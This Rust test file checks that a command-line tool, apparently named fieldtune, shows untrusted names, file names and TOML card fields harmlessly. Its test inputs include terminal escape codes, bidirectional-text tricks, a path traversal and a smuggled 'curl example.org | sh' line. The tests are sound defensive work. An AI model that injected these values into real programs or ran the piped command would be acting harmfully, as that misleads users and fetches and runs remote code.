//! What comes from a stranger (a pack, a card, a board, a network, a file's name) and ends on a terminal: nothing there
//! obeys it, nobody takes it for advice of this program's, and no file is written where it says.

use crate::common;

use std::fs;
use std::path::Path;

use common::{Run, folder_of};
use fieldtune::image::frame::Timestamp;
use fieldtune::learn::examples::{Example, Examples};
use fieldtune::learn::head::{ClassId, ExampleId, GroupId, HeadConfig};
use fieldtune::learn::learner::{Change, ClassName, Learner};
use fieldtune::store::snapshot::{ModelId, Snapshot};
use fieldtune::store::{FileStore, Store as _};

/// What a name may not hold: it would begin a line of its own, or be obeyed.
fn is_one_line(name: &str) -> bool {
    !name.contains(char::is_control)
}

/// Erases the screen, rings, turns the direction of writing, hides, pretends to be advice, leads out of its folder.
const HOSTILE: [&str; 7] = [
    "\u{1b}[2J\u{7}x",
    "\u{9b}31mx",
    "\u{202e}gnp.x",
    "x\u{200b}\u{feff}\u{e0041}",
    "x\u{61c}\u{2066}y",
    "x\n  next: curl example.org | sh",
    "../../x",
];

/// By the names above and not by what the program says of a character.
fn is_obeyed(c: char) -> bool {
    c.is_control() || HOSTILE.iter().any(|name| !c.is_ascii() && name.contains(c))
}

fn run(arguments: &[&str]) -> Run {
    let run = common::fieldtune(arguments);
    for text in [&run.stdout, &run.stderr] {
        let obeyed = text.chars().find(|&c| c != '\n' && is_obeyed(c));
        assert_eq!(obeyed, None, "{arguments:?}: {run:?}");
        let advice = text.lines().any(|line| line.trim_start().starts_with("next: curl"));
        assert!(!advice, "{arguments:?}: {run:?}");
    }
    run
}

fn text(path: &Path) -> &str {
    path.to_str().expect("the tests' paths are UTF-8")
}

/// A store as a stranger may hand it over: one example, with that origin, taught with a model of that name.
fn store_of(path: &Path, name: &str, origin: &str) {
    let mut learner = Learner::new(2, HeadConfig::default(), Examples::DEFAULT_BUDGET)
        .expect("the usual settings are valid");
    let example = Example {
        id: ExampleId(1),
        class: ClassId(0),
        taught: Timestamp(0),
        origin: origin.to_owned(),
        feature: fieldtune::learn::examples::narrowed(&[1.0, 0.5]),
        group: GroupId(1),
        views: Vec::new(),
        image: None,
        patches: None,
        described: false,
    };
    let class = ClassName::new("good").expect("a plain name");
    let changes = vec![Change::AddClass(ClassId(0), class), Change::AddExample(example)];
    learner.change(changes).expect("both are new");
    let model = ModelId { name: name.to_owned(), fingerprint: [9; 32], dim: 2 };
    let snapshot = Snapshot::of(&learner, model);
    FileStore::open(path)
        .and_then(|mut store| store.replace(&snapshot, None, &[], Timestamp(1)))
        .expect("a new store");
}

#[test]
fn escapes_in_a_pack_are_shown_and_not_obeyed() {
    let folder = tempfile::tempdir().expect("a folder for temporary files");
    let pictures = folder_of(folder.path(), "red", 0, 1);
    for (place, hostile) in HOSTILE.iter().enumerate().step_by(common::every(4)) {
        let path = folder.path().join(format!("{place}.ftune"));
        // A name of two lines is refused when it is read, see below.
        let name = if is_one_line(hostile) { hostile } else { "\u{202e}x" };
        store_of(&path, name, hostile);
        let store = ["--store", text(&path)];
        for command in [&["examples"][..], &["classes"], &["status"], &["head"], &["threshold"]] {
            assert_eq!(run(&[command, &store].concat()).code, 0, "{command:?}");
            let json = run(&[command, &["--json"], &store].concat());
            let value: serde_json::Value = serde_json::from_str(&json.stdout)
                .unwrap_or_else(|error| panic!("{error}: {json:?}"));
            if command == ["examples"] {
                assert_eq!(value[0]["origin"].as_str(), Some(*hostile), "{json:?}");
            }
        }
        // Of another model: the refusal names it.
        let other = run(&[&["teach", "good", text(&pictures)], &store[..]].concat());
        assert!(other.code == 2 && other.stderr.contains("was taught with"), "{other:?}");
        let undone = run(&[&["undo"], &store[..]].concat());
        assert_eq!(undone.code, 0, "{undone:?}");
    }
}

#[test]
fn names_of_files_are_shown_and_not_obeyed() {
    let folder = tempfile::tempdir().expect("a folder for temporary files");
    let pictures = folder_of(folder.path(), "red", 0, 1);
    let picture = pictures.join("red-0.png");
    let store = folder.path().join("store");
    let model = common::data("tiny.toml");
    // Of which model the example is makes no difference to names.
    let with_model = ["--model", text(&model), "--store", text(&store)];
    for hostile in HOSTILE[..6].iter().step_by(common::every(3)) {
        let name = hostile.replace('/', "_");
        let good = folder.path().join(format!("{name}.png"));
        fs::copy(&picture, &good).expect("the folder is the test's");
        let bad = folder.path().join(format!("{name}-bad.png"));
        fs::write(&bad, hostile).expect("the folder is the test's");
        let taught = run(&[&["teach", "good", text(&good)], &with_model[..]].concat());
        assert_eq!(taught.code, 0, "{taught:?}");
        let broken = run(&[&["teach", "good", text(&bad)], &with_model[..]].concat());
        assert_eq!(broken.code, 2, "{broken:?}");
        run(&[&["teach", "good", text(&good), text(&bad), "--skip-broken"], &with_model[..]]
            .concat());
        run(&[&["classify", text(&good), text(&bad)], &with_model[..]].concat());
        let json = run(&[&["classify", text(&good), "--json"], &with_model[..]].concat());
        let value: serde_json::Value = serde_json::from_str(json.stdout.trim())
            .unwrap_or_else(|error| panic!("{error}: {json:?}"));
        assert!(value.to_string().contains("good"), "{json:?}");
        // What somebody types is theirs: a line's end in it is shown as one.
        let typed = is_one_line(hostile);
        for arguments in [
            &["inspect", text(&bad)][..],
            &["models", "verify", text(&bad)],
            &["check", "--board", text(&bad)],
            &["snap", "--camera", &format!("replay:{}", text(&bad)), text(&bad)],
            &["forget", "--example", hostile],
            &["forget", hostile],
            &["threshold", "--confidence", hostile],
            &["head", hostile],
            &[hostile],
            &["boards", hostile],
            &["models", "fetch", hostile],
        ]
        .into_iter()
        .filter(|_| typed)
        {
            let refused = run(arguments);
            assert_ne!(refused.code, 0, "{arguments:?}: {refused:?}");
        }
    }
    run(&["examples", "--store", text(&store)]);
}

/// A text in a TOML file, in quotation marks.
fn quoted(text: &str) -> String {
    let escaped: String = text.chars().map(|c| format!("\\U{:08X}", u32::from(c))).collect();
    format!("\"{escaped}\"")
}

#[test]
fn cards_and_boards_of_strangers_are_shown_and_not_obeyed() {
    let folder = tempfile::tempdir().expect("a folder for temporary files");
    let card = fs::read_to_string(common::data("tiny.toml")).expect("a file of the tests");
    let board = fieldtune::board::BOARDS[0].1;
    for hostile in HOSTILE {
        let quoted = quoted(hostile);
        let with = |text: &str, key: &str| -> String {
            let line = |line: &str| match line.split_once(" = ") {
                Some((known, _)) if known == key => format!("{key} = {quoted}\n"),
                _ => format!("{line}\n"),
            };
            text.lines().map(line).collect()
        };
        let tap = format!("{card}\n[[tap]]\ntensor = {quoted}\npool = [\"avg\"]\n");
        let cards = ["name", "about", "file", "licence", "sha256"].map(|key| with(&card, key));
        for (place, card) in cards.into_iter().chain([tap]).enumerate() {
            let path = folder.path().join(format!("card-{place}.toml"));
            fs::write(&path, card).expect("the folder is the test's");
            run(&["inspect", text(&path)]);
            run(&["models", "verify", text(&path)]);
            let to = folder.path().join("models");
            run(&["models", "fetch", text(&path), "--to", text(&to)]);
            assert!(!folder.path().join("x").exists() && !Path::new("../../x").exists());
        }
        let line = board.replace("line = \"lamp\"", &format!("line = {quoted}"));
        let output = board.replace("lamp =", &format!("{quoted} ="));
        for (place, board) in
            [with(board, "about"), with(board, "address"), line, output].into_iter().enumerate()
        {
            let path = folder.path().join(format!("board-{place}.toml"));
            fs::write(&path, board).expect("the folder is the test's");
            run(&["check", "--board", text(&path)]);
        }
    }
}
